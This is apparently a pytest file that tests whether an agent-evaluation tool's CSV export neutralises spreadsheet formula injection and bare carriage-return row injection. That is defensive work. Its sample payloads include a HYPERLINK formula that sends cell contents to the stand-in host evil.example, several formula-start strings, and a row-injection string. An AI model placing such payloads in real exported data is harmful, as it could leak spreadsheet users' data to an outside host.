"""``agenteval export --format csv`` on hostile text (issue 28, cause 11): a cell that a
spreadsheet would run as a formula is written as text (``'`` first) unless
``--keep-formulas``; a bare CR in an answer is quoted, so ``csv`` and ``pandas.read_csv``
see exactly one row per trial."""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path
from typing import Any

import pytest

pd = pytest.importorskip("pandas")

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "traces"))
from hostile_traces import attr, otlp_request, otlp_span, write_lines  # noqa: E402

from agenteval.cli import main  # noqa: E402

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


@pytest.fixture
def run(tmp_path: Path, capsys: Any) -> Path:
    spans = []
    for i, text in enumerate(ATTACKS):
        s = otlp_span(i)
        s["attributes"] = [
            attr("gen_ai.operation.name", "invoke_agent"),
            attr("input.value", "q"),
            attr("output.value", text),
            attr("case", f"{text}#{i}"),
        ]
        spans.append(s)
    crlf = otlp_span(len(ATTACKS))
    crlf["attributes"][2] = attr("output.value", 'one\rINJECTED,"row"\rtwo\nthree')
    spans.append(crlf)
    f = write_lines(tmp_path / "t.jsonl", [otlp_request(*spans)])
    out = tmp_path / "run"
    code = main(["import-traces", str(f), "--out", str(out), "--case-id-attr", "case", "--quiet"])
    assert code == 0, capsys.readouterr().err
    return out


def _export(run: Path, out: Path, *more: str) -> list[dict[str, str]]:
    assert main(["export", str(run), "--format", "csv", "--out", str(out), *more]) == 0
    with open(out, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_formulas_are_written_as_text_by_default(run: Path, tmp_path: Path) -> None:
    rows = _export(run, tmp_path / "t.csv")
    assert len(rows) == len(ATTACKS) + 1
    outputs = [r["output"] for r in rows]
    for text in ATTACKS:
        assert "'" + text in outputs, (text, outputs)
        assert any(r["case_id"] == f"'{text}#{ATTACKS.index(text)}" for r in rows)
    for r in rows:  # no cell of any column starts a formula
        for v in r.values():
            assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (v, r)


def test_keep_formulas_writes_the_raw_values(run: Path, tmp_path: Path) -> None:
    rows = _export(run, tmp_path / "t.csv", "--keep-formulas")
    outputs = [r["output"] for r in rows]
    assert all(text in outputs for text in ATTACKS), outputs


def test_a_bare_cr_in_an_answer_cannot_start_a_row(run: Path, tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    rows = _export(run, out)
    assert len(rows) == len(ATTACKS) + 1
    assert 'one\rINJECTED,"row"\rtwo\nthree' in [r["output"] for r in rows]
    df = pd.read_csv(out)
    assert len(df) == len(ATTACKS) + 1
    assert not df.case_id.astype(str).str.contains("INJECTED").any()
    trials = [json.loads(x) for x in (run / "trials.jsonl").read_text().splitlines()]
    assert sorted(df.output.astype(str)) == sorted(
        ("'" + t["output"])
        if t["output"].startswith(("=", "+", "-", "@", "\t", "\r"))
        else t["output"]
        for t in trials
    )
